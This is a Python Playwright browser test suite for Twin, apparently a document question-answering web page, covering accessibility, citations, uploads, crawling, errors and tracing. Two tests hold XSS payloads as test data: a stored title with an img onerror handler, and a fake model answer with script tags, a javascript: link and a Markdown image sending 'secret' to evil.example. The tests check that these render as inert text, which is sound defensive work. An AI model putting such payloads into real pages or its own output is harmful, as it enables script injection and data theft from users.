"""The page before the real Twin, as a person meets it.

What a real one does not do on demand (refuse with 429, break off in the middle, store HTML in a title) is put between
the two by the browser, which answers such a request in Twin's place.
"""

from __future__ import annotations

import asyncio
import json
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from playwright.sync_api import Page, Route, expect
from playwright.sync_api import Request as Asked
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route as Serving

from tests.browser.conftest import SIZES, Visitor
from tests.browser.served import Served

GUIDE = """# Sourdough, slowly 😀

A loaf wants time, and 𝒻lour wants water. The starter is fed **twice** a day, with equal parts of flour and water, \
and it is ready when it doubles within six hours.

## Shaping

- Flour the *bench* lightly.
- Fold the dough toward its centre, see [the video](https://example.org/video).

Steam keeps the crust of the loaf open for the first ten minutes of baking, and an oven stone holds the heat.
"""
QUESTION = "How often is the sourdough starter fed with flour and water?"
OFF_TOPIC = "Which locomotive won the Rainhill trials?"
TITLE = "Zeppelin mooring"
HOSTILE_TITLE = f"<img src=x onerror=\"document.title='owned'\"> {TITLE}"


@pytest.fixture(scope="package")
def library(quotes: Served) -> Served:
    quotes.add("alpha", "sourdough.md", GUIDE)
    quotes.add("beta", "zeppelin.md", f"# {TITLE}\n\nA zeppelin is moored to a tall mast by its nose.\n")
    return quotes


@pytest.fixture(scope="package")
def engine(written: Served) -> Served:
    written.add("alpha", "sourdough.md", GUIDE)
    return written


def ask(page: Page, question: str) -> None:
    page.get_by_label("Your question").fill(question)
    page.keyboard.press("Enter")


def answered(page: Page) -> Any:
    """The newest answer, when it is complete."""
    newest = page.locator("article.answer").last
    expect(newest).to_have_attribute("aria-busy", "false")
    return newest


def violations(page: Page, axe: str) -> list[str]:
    """What axe-core finds serious or worse."""
    page.evaluate(axe)
    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    return [
        f"{each['id']}: {node['html'][:200]}"
        for each in found["violations"]
        if each["impact"] in ("serious", "critical")
        for node in each["nodes"]
    ]


@pytest.mark.parametrize("size", SIZES)
def test_no_serious_violation(library: Served, visitor: Visitor, axe: str, size: str) -> None:
    """Every screen passes axe-core without a serious or critical violation: light, dark and on a phone."""
    page = visitor.open(library, size)
    expect(page.get_by_label("Questions to begin with")).to_be_visible()
    assert violations(page, axe) == []

    ask(page, QUESTION)
    answered(page)
    assert violations(page, axe) == []
    page.locator(".chip").first.click()
    expect(page.locator("dialog.drawer mark:not(.syntax)").first).to_be_visible()
    assert violations(page, axe) == []
    page.keyboard.press("Escape")
    ask(page, OFF_TOPIC)
    answered(page)
    assert violations(page, axe) == []

    page.get_by_role("link", name="Library").click()
    expect(page.get_by_role("list", name="Documents")).to_be_visible()
    assert violations(page, axe) == []
    page.get_by_role("button", name="Delete Sourdough").click()
    assert violations(page, axe) == []
    page.get_by_role("button", name="Keep it").click()
    page.get_by_role("button", name="Help").click()
    assert violations(page, axe) == []


@pytest.mark.parametrize("size", ["light", "phone"])
def test_nothing_is_wider_than_the_screen(library: Served, visitor: Visitor, size: str) -> None:
    """No view scrolls sideways, on a phone either."""
    page = visitor.open(library, size)
    ask(page, QUESTION)
    answered(page)
    for view in ("Ask", "Library"):
        page.get_by_role("link", name=view, exact=True).click()
        expect(page.get_by_role("heading", level=1)).to_be_attached()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), view


def test_a_chip_opens_the_exact_span(library: Served, visitor: Visitor) -> None:
    """Ask, read, press the number: the drawer highlights exactly the cited code points, in view."""
    page = visitor.open(library)
    reply = page.request.post(
        "/v1/chat/completions",
        data={"model": "twin", "messages": [{"role": "user", "content": QUESTION}]},
        headers={"Origin": library.address, "X-Twin-Page": "1"},
    ).json()
    cited = reply["twin"]["citations"][0]
    text = page.request.get(f"/v1/documents/{cited['document_id']}?version={cited['version']}").json()["text"]
    expected = text[cited["start"] : cited["end"]]
    assert "starter" in expected

    ask(page, QUESTION)
    chip = answered(page).locator(".chip").first
    chip.hover()
    card = page.locator("#source-card")
    expect(card).to_contain_text("Sourdough, slowly")
    expect(card).to_contain_text("starter is fed")
    chip.click()
    expect(card).to_be_hidden()
    drawer = page.locator("dialog.drawer")
    expect(drawer.locator("mark:not(.syntax)").first).to_be_in_viewport()
    assert "".join(drawer.locator("mark").all_text_contents()) == expected
    expect(drawer).to_contain_text("an oven stone holds the heat")  # its neighbourhood
    page.keyboard.press("Escape")
    expect(drawer).to_be_hidden()
    expect(chip).to_be_focused()


def test_what_the_library_does_not_speak_of_is_said(library: Served, visitor: Visitor) -> None:
    """An answer of weak evidence has a banner, and offers the nearest passages, which open like sources."""
    page = visitor.open(library)
    ask(page, OFF_TOPIC)
    answer = answered(page)
    expect(answer.locator(".banner").first).to_contain_text("Nothing in the library speaks of this")
    answer.get_by_role("region", name="Nearest passages").get_by_role("button").first.click()
    expect(page.locator("dialog.drawer mark:not(.syntax)").first).to_be_visible()


def test_with_the_keyboard_alone(library: Served, visitor: Visitor) -> None:
    """Help, search, ask, open a source, come back, delete and keep: without a pointer."""
    page = visitor.open(library)
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second")
    expect(page.get_by_label("Your question")).to_have_value("first line\nsecond")
    page.get_by_label("Your question").fill("")
    page.keyboard.type(QUESTION)
    page.keyboard.press("Enter")
    answer = answered(page)

    page.keyboard.press("Shift+Tab")
    for _ in range(12):
        if page.evaluate("document.activeElement.matches('.chip')"):
            break
        page.keyboard.press("Shift+Tab")
    chip = page.locator(".chip:focus")
    expect(chip).to_have_count(1)
    expect(page.locator("#source-card")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#source-card")).to_be_hidden()
    page.keyboard.press("Enter")
    expect(page.locator("dialog.drawer mark:not(.syntax)").first).to_be_visible()
    page.keyboard.press("Escape")
    expect(chip).to_be_focused()

    page.keyboard.press("?")
    expect(page.get_by_role("dialog", name="Help")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog", name="Help")).to_be_hidden()
    page.keyboard.press("/")
    expect(page.get_by_label("Search the library")).to_be_focused()
    page.keyboard.type("sourdough")
    expect(page.get_by_role("list", name="Documents").get_by_role("listitem")).to_have_count(1)
    page.get_by_role("button", name="Delete Sourdough").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Keep it")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("list", name="Documents").get_by_role("listitem")).to_have_count(1)
    page.keyboard.press("c")
    expect(page.get_by_label("Your question")).to_be_focused()
    expect(answer).to_be_visible()


def test_the_answer_is_read_aloud_once(library: Served, visitor: Visitor) -> None:
    """A polite live region gets each sentence once and the end with its sources; no sign of Markdown is read."""
    page = visitor.open(library)
    ask(page, QUESTION)
    answered(page)
    said = page.get_by_role("log")
    expect(said).to_have_attribute("aria-live", "polite")
    expect(said).to_contain_text(re.compile(r"Answer complete, \d+ source"))
    heard = " ".join(said.locator("p").all_text_contents())
    assert heard.count("with equal parts of flour and water") == 1
    assert "**" not in heard


@pytest.mark.promise(8)
def test_hostile_titles_are_text(library: Served, visitor: Visitor) -> None:
    """HTML that stands in a stored title is read as text in the library, on chips, in the drawer and among the questions
    to begin with. (The crawler leaves none in: here it is put into every answer of Twin's.)"""
    page = visitor.context(library).new_page()
    hostile = json.dumps(HOSTILE_TITLE)[1:-1]

    def retitled(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace(TITLE, hostile))

    page.route("**/v1/**", retitled)
    page.goto("/")
    expect(page.get_by_label("Questions to begin with")).to_contain_text("<img src=x")
    ask(page, "How is a zeppelin moored to a tall mast?")
    answer = answered(page)
    answer.locator(".chip").first.click()
    expect(page.get_by_role("heading", name=HOSTILE_TITLE).first).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("link", name="Library").click()
    expect(page.get_by_role("button", name=HOSTILE_TITLE, exact=True)).to_be_visible()
    assert page.locator("img").count() == 0
    assert page.title() == "Library · Twin"


def test_stop(engine: Served, visitor: Visitor) -> None:
    """Esc stops an answer on its way: what had come stays, nothing more comes, and the next can be asked."""
    engine.say("The starter is fed twice a day. [1] " + "It is ready when it doubles. " * 1000, pause=0.02)
    page = visitor.open(engine)
    ask(page, QUESTION)
    prose = page.locator(".prose").last
    expect(prose).to_contain_text("starter is fed twice")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_text("Stopped.", exact=True).first).to_be_attached()
    before = prose.text_content()
    page.wait_for_timeout(400)
    assert prose.text_content() == before
    assert before is not None
    assert len(before) < 20_000
    engine.say("The starter is fed twice a day. [1]")
    ask(page, QUESTION)
    expect(answered(page)).to_contain_text("twice a day")


@pytest.mark.promise(8)
def test_a_hostile_answer_calls_nobody(engine: Served, visitor: Visitor) -> None:
    """Images and HTML in an answer are text, a link waits to be pressed, a wrong sentence is marked as unsupported."""
    engine.say(
        "The starter is fed hourly by seventeen robots from Mars. [1] ![x](https://evil.example/a.png?d=secret) "
        "<img src=https://evil.example/b.png onerror=\"document.title='owned'\"> "
        "[press](https://evil.example/c) [run](javascript:document.title='owned')\n\n"
        "<script>document.title='owned'</script>\n"
    )
    page = visitor.open(engine)
    ask(page, QUESTION)
    answer = answered(page)
    expect(answer.locator(".unsupported").first).to_contain_text("robots")
    page.wait_for_timeout(300)
    assert answer.locator("img, script, iframe").count() == 0
    assert all(
        (link.get_attribute("href") or "").startswith("https://") and "noopener" in (link.get_attribute("rel") or "")
        for link in answer.locator("a").all()
    )
    assert page.title() == "Twin"


def test_a_dropped_file_comes_in_and_goes(library: Served, visitor: Visitor) -> None:
    """A file dropped anywhere is brought in with progress, shows in the library, and is deleted after asking."""
    page = visitor.open(library)
    expect(page.get_by_label("Your question")).to_be_visible()
    dropped = page.evaluate_handle(
        """() => {
            const data = new DataTransfer();
            const text = "# Kites of paper\\n\\nA kite of paper flies on a light wind, held by a line of linen.\\n";
            data.items.add(new File([text], "kites.md", {type: "text/markdown"}));
            return data;
        }"""
    )
    for event in ("dragenter", "dragover", "drop"):
        page.dispatch_event("body", event, {"dataTransfer": dropped})
    expect(page.get_by_role("heading", name="Library")).to_be_visible()
    expect(page.get_by_role("list", name="Being brought in")).to_contain_text("kites.md")
    title = page.get_by_role("button", name="Kites of paper", exact=True)
    expect(title).to_be_visible()
    row = page.get_by_role("listitem").filter(has=title)
    expect(row).to_contain_text("Searchable")
    page.get_by_role("button", name="Delete Kites of paper").click()
    confirm = page.get_by_role("dialog", name="Delete this document?")
    expect(confirm).to_contain_text("Kites of paper")
    confirm.get_by_role("button", name="Delete").click()
    expect(title).to_have_count(0)
    page.reload()
    expect(page.get_by_role("button", name="Sourdough, slowly").first).to_be_visible()
    expect(title).to_have_count(0)


_go_on = threading.Event()
"""What all but the first pages of the site wait for."""


async def _slow(request: Request) -> Response:
    """A sitemap of 20 pages that take their time."""
    if request.url.path == "/sitemap.xml":
        places = "".join(f"<url><loc>{request.base_url}{number}</loc></url>" for number in range(20))
        head = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        return Response(f"{head}{places}</urlset>", media_type="application/xml")
    number = request.url.path[1:]
    if not number.isdigit():
        return Response(status_code=404)
    while int(number) >= 5 and not _go_on.is_set():
        await asyncio.sleep(0.05)
    words = " ".join(f"lantern{number}w{place}" for place in range(60))
    return HTMLResponse(
        f"<html><head><title>Lantern {number}</title></head><body><article><h1>Lantern {number}</h1><p>{words}.</p>"
        "</article></body></html>"
    )


@pytest.fixture
def site() -> Iterator[str]:
    """Pages on loopback."""
    _go_on.clear()
    server = uvicorn.Server(
        uvicorn.Config(Starlette(routes=[Serving("/{path:path}", _slow)]), port=0, log_level="error", lifespan="off")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = server.force_exit = True
    thread.join(10)


def test_a_dropped_folder_comes_in_with_its_paths(library: Served, visitor: Visitor, tmp_path: Path) -> None:
    """A folder that is dropped comes in file by file, named by the paths below it; hidden files stay out."""
    folder = tmp_path / "garden"
    (folder / "beds").mkdir(parents=True)
    (folder / "README.md").write_text("# Garden of gravel\n\nRakes draw lines into the gravel.\n")
    (folder / "beds" / "README.md").write_text("# Beds of moss\n\nMoss wants shade and rain.\n")
    (folder / ".hidden.md").write_text("# Hidden\n\nNobody should read this.\n")
    context = visitor.context(library)
    page = context.new_page()
    page.goto("/")
    expect(page.get_by_label("Your question")).to_be_visible()
    data = {"items": [], "files": [str(folder)], "dragOperationsMask": 1}
    chromium = context.new_cdp_session(page)
    for event in ("dragEnter", "dragOver", "drop"):
        chromium.send("Input.dispatchDragEvent", {"type": event, "x": 400, "y": 300, "data": data})
    expect(page.get_by_role("heading", name="Library")).to_be_visible()
    jobs = page.get_by_role("list", name="Being brought in")
    expect(jobs).to_contain_text("upload:garden/beds/README.md")
    expect(jobs).to_contain_text("upload:garden/README.md")
    expect(page.get_by_role("button", name="Beds of moss", exact=True)).to_be_visible()
    expect(page.get_by_role("button", name="Garden of gravel", exact=True)).to_be_visible()
    expect(page.locator("body")).not_to_contain_text("Hidden")


def test_an_upload_shows_how_much_is_sent(library: Served, visitor: Visitor, tmp_path: Path) -> None:
    """While bytes are sent a bar tells which part of them is on its way; what Twin does not read is then said."""
    file = tmp_path / "ledger.bin"
    file.write_bytes(bytes(range(256)) * 4000)
    context = visitor.context(library)
    page = context.new_page()
    page.goto("/#/library")
    network = context.new_cdp_session(page)
    slow = {"offline": False, "latency": 0, "downloadThroughput": -1, "uploadThroughput": 50_000}
    network.send("Network.emulateNetworkConditions", slow)
    page.locator("input[type=file]").set_input_files(str(file))
    bar = page.get_by_role("progressbar", name="Sent of the upload")
    expect(bar).to_be_visible()
    page.wait_for_function("0 < document.querySelector('form progress')?.value")
    assert 0 < page.evaluate("document.querySelector('form progress')?.value ?? 1") <= 1
    network.send("Network.emulateNetworkConditions", slow | {"uploadThroughput": -1})
    jobs = page.get_by_role("list", name="Being brought in")
    expect(jobs).to_contain_text("ledger.bin")
    expect(bar).to_have_count(0)
    expect(jobs.locator("li.job").filter(has_text="ledger.bin")).to_contain_text("Failed")


def test_the_conversation_outlives_a_reload(library: Served, visitor: Visitor) -> None:
    """Questions and answers are there after a reload, each twin's own, with sources that open; they are not read aloud
    again; *Begin anew* forgets them, and another tab never knew them."""
    page = visitor.open(library)
    page.get_by_label("Who answers").select_option("alpha")
    ask(page, QUESTION)
    answered(page)
    text = page.locator(".prose").last.inner_text()
    page.reload()
    expect(page.get_by_label("Who answers")).to_have_value("alpha")
    assert answered(page).locator(".prose").inner_text() == text
    expect(page.get_by_role("log").locator("p")).to_have_count(0)
    page.locator(".chip").first.click()
    expect(page.locator("dialog.drawer mark:not(.syntax)").first).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_label("Who answers").select_option("beta")
    expect(page.locator("article.answer")).to_have_count(0)
    page.get_by_label("Who answers").select_option("alpha")
    expect(page.locator("article.answer")).to_have_count(1)
    other = page.context.new_page()
    other.goto("/")
    expect(other.get_by_label("Questions to begin with")).to_be_visible()
    assert other.evaluate("Object.keys(sessionStorage).filter((it) => it.includes('conversation'))") == []
    page.get_by_role("button", name="Begin anew").click()
    page.reload()
    expect(page.get_by_label("Your question")).to_be_visible()
    expect(page.locator("article.answer")).to_have_count(0)


def test_an_address_comes_in_and_its_progress_survives_a_reload(library: Served, visitor: Visitor, site: str) -> None:
    """Addresses are brought in with live progress, which a reload finds again; what failed says why and may be tried
    again; documents turn up in the library as they come, each with its state, and can be narrowed to a state."""
    page = visitor.open(library, path="/#/library")
    page.get_by_label("Addresses, one a line").fill(f"{site}/sitemap.xml\n{site}/missing")
    page.get_by_label("Whose writing").fill("gamma")
    page.get_by_role("button", name="Bring in").click()
    jobs = page.get_by_role("list", name="Being brought in")
    expect(jobs.get_by_role("progressbar").first).to_be_visible()
    page.reload()
    expect(jobs.get_by_role("progressbar").first).to_be_visible()
    expect(jobs).to_contain_text(re.compile(r"[1-9]\d* of 20 seen"))
    _go_on.set()
    job = jobs.locator("li.job").filter(has_text="missing")
    expect(job).to_contain_text("Done", timeout=120_000)
    expect(job).to_contain_text("404")
    expect(job.get_by_role("button", name="Retry")).to_be_visible()
    row = page.get_by_role("listitem").filter(has=page.get_by_role("button", name="Lantern 7", exact=True))
    expect(row).to_contain_text("Searchable")
    page.get_by_label("State").select_option("failed")
    expect(row).to_have_count(0)
    job.get_by_role("button", name="Dismiss").click()
    expect(job).to_have_count(0)
    with library.client() as client:
        client.delete("/v1/authors/gamma")


def test_an_empty_library_asks_for_one_address(engine: Served, visitor: Visitor) -> None:
    """Where there is nothing to ask, the page asks for one address."""
    page = visitor.context(engine).new_page()
    page.route("**/v1/documents?*", lambda route: route.fulfill(json={"data": [], "next": ""}))
    page.goto("/")
    expect(page.get_by_role("heading", name="Bring in what you have written")).to_be_visible()
    expect(page.get_by_label("Address", exact=True)).to_be_visible()


def test_without_a_key(library: Served, visitor: Visitor, axe: str) -> None:
    """Nobody in particular is told how to get in; a wrong key is refused, and nothing of it is kept."""
    visitor.allowed_errors.append("401")
    page = visitor.open(library, signed_in=False)
    expect(page.get_by_role("heading", name="Open Twin’s page with its link")).to_be_visible()
    assert violations(page, axe) == []
    page.get_by_label("Or paste an API key").fill("sk-twin-wrong")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("not valid")
    assert page.evaluate("sessionStorage.length + localStorage.length") == 0


def test_too_many_requests(library: Served, visitor: Visitor) -> None:
    """A 429 is shown with its message, and trying again waits as long as it says."""
    visitor.allowed_errors.append("429")
    page = visitor.context(library).new_page()
    refusal = {
        "error": {"message": "Too many questions.", "type": "rate_limit_error", "code": "overloaded", "param": None}
    }
    answers = [1]

    def once(route: Route) -> None:
        if answers:
            answers.pop()
            route.fulfill(status=429, json=refusal, headers={"Retry-After": "2"})
        else:
            route.continue_()

    page.route("**/v1/chat/completions", once)
    page.goto("/")
    ask(page, QUESTION)
    alert = page.get_by_role("alert")
    expect(alert).to_contain_text("Too many questions.")
    expect(alert.get_by_role("button")).to_be_disabled()
    again = alert.get_by_role("button", name="Try again", exact=True)
    expect(again).to_be_enabled()
    again.click()
    expect(answered(page).locator(".chip").first).to_be_visible()


def test_an_answer_that_breaks_off(library: Served, visitor: Visitor) -> None:
    """An error in the stream, an early end and a lost connection each keep what came and offer another try."""
    visitor.allowed_errors.append("net::ERR")
    page = visitor.context(library).new_page()
    begun = "data: " + json.dumps({"choices": [{"index": 0, "delta": {"content": "Half an ans"}}]}) + "\n\n"
    broken = "data: " + json.dumps({"error": {"message": "The engine went away.", "code": "unavailable"}}) + "\n\n"
    bodies = [begun + broken, begun, None]

    def next_body(route: Route) -> None:
        body = bodies.pop(0)
        if body is None:
            route.abort("connectionreset")
        else:
            route.fulfill(body=body, content_type="text/event-stream")

    page.route("**/v1/chat/completions", next_body)
    page.goto("/")
    ask(page, QUESTION)
    expect(page.locator("article.answer").last).to_contain_text("Half an ans")
    expect(page.get_by_role("alert")).to_contain_text("The engine went away.")
    page.get_by_role("button", name="Try again").click()
    expect(page.get_by_role("alert")).to_contain_text("broke off before its end")
    page.get_by_role("button", name="Try again").click()
    expect(page.get_by_role("alert")).to_contain_text("Twin does not answer")


def test_the_theme_is_kept(library: Served, visitor: Visitor) -> None:
    """The chosen theme outlives a reload, against the system's."""
    page = visitor.open(library, "light")
    paper = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(paper)
    page.get_by_role("button", name="Theme").click()
    page.get_by_role("button", name="Theme").click()
    dark = page.evaluate(paper)
    assert dark != light
    page.reload()
    expect(page.get_by_role("button", name="Theme: dark")).to_be_visible()
    assert page.evaluate(paper) == dark


def test_the_twin_that_answers_is_chosen(library: Served, visitor: Visitor) -> None:
    """The author picked is the model that is asked."""
    page = visitor.open(library)
    page.get_by_label("Who answers").select_option("alpha")
    with page.expect_request("**/v1/chat/completions") as asked:
        ask(page, QUESTION)
    assert json.loads(asked.value.post_data or "")["model"] == "alpha"
    answered(page)


@pytest.mark.parametrize("size", SIZES)
def test_how_an_answer_was_made(library: Served, visitor: Visitor, axe: str, size: str) -> None:
    """The whole path of an answer in a dialog: what was searched, each step, the candidates with each stage's score;
    without a serious violation, no wider than the screen, with the keyboard alone and the focus given back. Its trace
    began in the browser, and every request has one of its own."""
    page = visitor.open(library, size)
    parents: list[str | None] = []

    def requested(request: Asked) -> None:
        if "/v1/" in request.url:
            parents.append(request.headers.get("traceparent"))

    page.on("request", requested)
    with page.expect_response("**/v1/chat/completions") as response:
        ask(page, QUESTION)
    answer = answered(page)
    begun = response.value.request.headers["traceparent"].split("-")[1]
    assert response.value.header_value("x-trace-id") == begun
    button = answer.get_by_role("button", name="How this was made")
    button.focus()
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog", name="How this was made")
    expect(dialog.locator("dl")).to_contain_text(begun)
    expect(dialog.locator("dl")).to_contain_text(QUESTION)
    expect(dialog).to_contain_text("None: no model wrote this answer.")
    steps = dialog.get_by_role("region", name="Steps").get_by_role("rowheader")
    assert steps.all_text_contents()[:3] == ["understand", "queries", "search"]
    assert steps.all_text_contents()[-1] == "quote"
    candidates = dialog.get_by_role("region", name="Candidates")
    heads = candidates.get_by_role("columnheader").all_text_contents()
    assert [name for name in ("dense", "text", "fused", "Cited") if name not in heads] == []
    first = candidates.get_by_role("row").nth(1)
    expect(first).to_contain_text("Sourdough, slowly")
    assert re.search(r"\d\.\d{3}", first.inner_text())
    expect(first.get_by_text("starter is ready", exact=False)).to_be_hidden()
    first.locator("summary").click()
    expect(first).to_contain_text("twice")
    assert violations(page, axe) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    body = dialog.get_by_role("region", name="The answer’s path")
    assert body.evaluate("(it) => it.scrollWidth <= it.clientWidth && it.clientHeight <= innerHeight")
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    expect(button).to_be_focused()
    assert all(parents)
    assert len(set(parents)) == len(parents)


def test_the_prompt_of_a_written_answer(engine: Served, visitor: Visitor) -> None:
    """Where a model wrote, its prompt as it read it, folded; of an answer that is gone it is said so."""
    engine.say("The starter is fed twice a day [1].")
    page = visitor.open(engine)
    ask(page, QUESTION)
    answered(page).get_by_role("button", name="How this was made").click()
    dialog = page.get_by_role("dialog", name="How this was made")
    prompt = dialog.locator(".words.code")
    expect(prompt).to_be_hidden()
    dialog.get_by_text("as the model read it").click()
    expect(prompt).to_contain_text("A loaf wants time")
    expect(prompt).to_contain_text(f"Question: {QUESTION}")
    id = dialog.locator("dt", has_text=re.compile("^Answer$")).locator("+ dd").inner_text()
    page.get_by_role("button", name="Close", exact=True).click()
    with engine.client() as client:
        assert client.delete(f"/v1/generations/{id}").status_code == 200
    visitor.allowed_errors.append("404")
    answered(page).get_by_role("button", name="How this was made").click()
    expect(dialog.get_by_role("alert")).to_have_text("This answer is no longer kept.")
